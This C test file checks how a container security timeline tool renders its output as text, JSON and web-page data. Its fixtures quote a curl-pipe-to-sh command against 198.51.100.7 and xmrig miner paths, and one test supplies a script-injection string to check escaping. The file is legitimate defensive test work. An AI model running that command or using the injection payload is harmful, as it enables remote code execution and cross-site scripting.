// SPDX-License-Identifier: GPL-2.0-only
/* user/timeline/print_*.c: the story of selftests/timeline/ as text and JSON, at several widths and from hostile hands. */
#include <string.h>

#include "timeline.h"
#include "user/timeline/page_data.h"
#include "user/timeline/print_json.h"
#include "user/timeline/print_text.h"

static void add_file(struct timeline *timeline, const char *name)
{
	FILE *file = fopen(name, "r");
	char line[65536];

	cr_assert(file, "%s", name);
	cr_assert_eq(timeline_add_source(timeline, name), 0);
	while (fgets(line, sizeof(line), file))
		cr_assert_eq(add(timeline, "%s", line), 0);
	fclose(file);
}

static struct timeline story(void)
{
	struct timeline timeline = {};

	add_file(&timeline, "selftests/timeline/story-db1.jsonl");
	add_file(&timeline, "selftests/timeline/story-web1.jsonl");
	cr_assert_eq(timeline_finish(&timeline), 0);
	return timeline;
}

static char *text(const struct timeline *timeline, struct text_style style)
{
	char *printed;
	size_t size;

	style.out = open_memstream(&printed, &size);
	cr_assert(style.out);
	cr_assert_eq(timeline_print_text(timeline, &style), 0);
	fclose(style.out);
	return printed;
}

static char *json(const struct timeline *timeline)
{
	char *printed;
	size_t size;
	FILE *out = open_memstream(&printed, &size);

	cr_assert(out);
	cr_assert_eq(timeline_print_json(timeline, out), 0);
	fclose(out);
	return printed;
}

/* Columns of a line, whose bytes beyond ASCII are UTF-8 and whose colours take no room. */
static int columns(const char *line)
{
	int n = 0;

	for (; *line && *line != '\n'; line++) {
		if (*line == '\x1b')
			line = strchr(line, 'm');
		else
			n += ((unsigned char)*line & 0xc0) != 0x80;
	}
	return n;
}

static void expect_width(const char *printed, int width)
{
	for (const char *line = printed; *line; line = strchr(line, '\n') + 1)
		cr_expect_leq(columns(line), width, "%.*s", (int)strcspn(line, "\n"), line);
}

Test(timeline_text, widths)
{
	static const int widths[] = { 60, 80, 120 };
	_cleanup_timeline_ struct timeline timeline = story();

	for (size_t i = 0; i < 3; i++) {
		char *plain = text(&timeline, (struct text_style){ .width = widths[i] });
		char *drawn = text(
			&timeline,
			(struct text_style){ .width = widths[i], .lines = true, .colour = true });

		expect_width(plain, widths[i]);
		expect_width(drawn, widths[i]);
		cr_expect_null(strchr(plain, '\x1b'));
		cr_expect(strstr(drawn, "\x1b[31mDENY\x1b[0m"));
		cr_expect(strstr(drawn, "└─ "));
		for (const char *at = plain; *at; at++)
			cr_assert(*at == '\n' || (*at >= 0x20 && *at < 0x7f));
		free(plain);
		free(drawn);
	}
}

Test(timeline_text, tells_the_story)
{
	_cleanup_timeline_ struct timeline timeline = story();
	char *printed = text(&timeline, (struct text_style){ .width = 400 });
	static const char *const in_order[] = {
		"3 incidents, 16 events",
		"Note: Each time is what the clock of its machine said",
		"Incident 1  kill  2026-11-27 03:14:07.000 UTC, 11.730 s",
		"web1, by its clock, container 4f1cd7c4a2d3 (containerd), image shop, pod 3c9f5a1e, mode enforce",
		"started by containerd-shim-runc-v2[1180], and 9 processes below it: 1 killed, 43 refused, 3 noticed.",
		"-- gap on web1: 212 events lost from number 4118 on, between +6.011 and +9.450 --",
		"  /usr/bin/python3.11[1203] as gunicorn: ",
		"     `- /usr/bin/dash[20411]: sh -c curl -s http://198.51.100.7/s.sh|sh",
		"+0.000 ALERT inline: an interpreter is given code that is in no file (inline-code)",
		"+1.204 DENY exec /tmp/.x/xmrig: the image does not ship these bytes (not-in-image), sha256 77862efd7659",
		"+1.530 DENY exec /dev/shm/xmrig: the image does not ship these bytes (not-in-image), sha256 77862efd7659, 37 times in 2.100 s",
		"+4.890 KILL memory: ",
		"Incident 2  deny  2026-11-27 03:14:21.200 UTC",
		"db1, by its clock, container postgres-main (podman)",
		"Incident 3  alert  2026-11-27 03:15:43.000 UTC",
		"+0.000 AUDIT exec /home/deploy/update-agent: ",
	};
	const char *at = printed;

	for (size_t i = 0; i < sizeof(in_order) / sizeof(*in_order); i++) {
		const char *found = strstr(at, in_order[i]);

		cr_assert(found, "not there, or not here: %s\n%s", in_order[i], printed);
		at = found + 1;
	}
	free(printed);
}

Test(timeline_text, nothing)
{
	_cleanup_timeline_ struct timeline timeline = {};
	char *printed;

	cr_assert_eq(timeline_add_source(&timeline, "a"), 0);
	cr_assert_eq(timeline_finish(&timeline), 0);
	printed = text(&timeline, (struct text_style){ .width = 80 });
	cr_expect_str_eq(printed, "No events.\n");
	free(printed);
}

Test(timeline_text, a_tree_as_deep_as_events_can_make_it)
{
	_cleanup_timeline_ struct timeline timeline = {};
	char *printed;

	cr_assert_eq(timeline_add_source(&timeline, "a"), 0);
	for (int pid = 50000; pid > 10; pid--)
		cr_assert_eq(add(&timeline,
				 "{\"kind\":\"exec\",\"verdict\":\"deny\",\"pid\":%d,\"ppid\":%d}",
				 pid, pid - 1),
			     0);
	cr_assert_eq(timeline_finish(&timeline), 0);
	cr_expect_eq(timeline.incident_count, 1);
	printed = text(&timeline, (struct text_style){ .width = 80 });
	expect_width(printed, 82); /* text keeps twenty columns, whatever is left of them */
	free(printed);
	printed = json(&timeline);
	cr_expect(strstr(printed, "\"pid\":50000"));
	free(printed);
}

Test(timeline_json, a_line_each)
{
	_cleanup_timeline_ struct timeline timeline = story();
	char *printed = json(&timeline), *line, *rest = printed;
	int incidents = 0, events = 0;

	while ((line = strsep(&rest, "\n")) && *line) {
		json_object *object = json_tokener_parse(line), *kind, *list, *member;

		cr_assert(object, "%s", line);
		cr_assert(json_object_object_get_ex(object, "kind", &kind));
		if (!strcmp(json_object_get_string(kind), "incident")) {
			incidents++;
			cr_assert(json_object_object_get_ex(object, "events", &list));
			events += (int)json_object_array_length(list);
			cr_assert(json_object_object_get_ex(json_object_array_get_idx(list, 0),
							    "event", &member));
			cr_expect(json_object_object_get_ex(member, "host", NULL));
			cr_expect(json_object_object_get_ex(member, "boot_ns", NULL));
			cr_expect(json_object_object_get_ex(object, "processes", NULL));
		}
		json_object_put(object);
	}
	cr_expect_eq(incidents, 3);
	cr_expect_eq(events, 16);
	free(printed);
}

Test(timeline_json, gaps_between_incidents)
{
	_cleanup_timeline_ struct timeline timeline = {};
	char *printed;

	cr_assert_eq(timeline_add_source(&timeline, "a"), 0);
	add_exec(&timeline, "h", 1, 1, 101, "");
	cr_assert_eq(add(&timeline, "{\"kind\":\"gap\",\"host\":\"h\",\"seq\":2,\"count\":3}"), 0);
	cr_assert_eq(add(&timeline, "{\"kind\":\"gap\",\"host\":\"other\",\"seq\":2,\"count\":9}"),
		     0);
	cr_assert_eq(timeline_finish(&timeline), 0);
	printed = json(&timeline);
	cr_expect(
		strstr(printed,
		       "\"gaps\":[{\"host\":\"h\",\"seq\":2,\"count\":3,\"recorded\":true,\"after\":\"2026-11-27T03:00:01.500000000Z\"}]"),
		"%s", printed);
	cr_expect(
		strstr(printed,
		       "{\"kind\":\"gap\",\"host\":\"other\",\"seq\":2,\"count\":9,\"recorded\":true}\n"),
		"%s", printed);
	free(printed);
}

/* What would end the page's data, or begin something in it, is not there; and it is the same text once read. */
Test(timeline_page, data_ends_no_script)
{
	static const char path[] = "</script><script>alert(1)</script><!--&amp;'\\\"";
	_cleanup_timeline_ struct timeline timeline = {};
	json_object *object, *texts, *event = json_object_new_object();
	bool found = false;
	char *printed;
	size_t size;
	FILE *out;

	cr_assert_eq(timeline_add_source(&timeline, path), 0);
	json_object_object_add(event, "kind", json_object_new_string("exec"));
	json_object_object_add(event, "verdict", json_object_new_string("</SCRIPT>"));
	json_object_object_add(event, "path", json_object_new_string(path));
	json_object_object_add(event, path, json_object_new_string(path));
	cr_assert_eq(timeline_add(&timeline, 1, event), 0);
	json_object_put(event);
	cr_assert_eq(timeline_finish(&timeline), 0);
	out = open_memstream(&printed, &size);
	timeline_put_page_data(&timeline, out);
	fclose(out);
	cr_expect_null(strpbrk(printed, "<>&\n"));
	object = json_tokener_parse(printed);
	cr_assert(object);
	cr_assert(json_object_object_get_ex(object, "texts", &texts));
	for (size_t i = 0; i < json_object_array_length(texts); i++)
		found = found ||
			!strcmp(json_object_get_string(json_object_array_get_idx(texts, i)), path);
	cr_expect(found);
	json_object_put(object);
	free(printed);
	printed = json(&timeline);
	cr_expect_null(strpbrk(printed, "<>&"));
	object = json_tokener_parse(printed);
	cr_expect(object);
	json_object_put(object);
	free(printed);
}
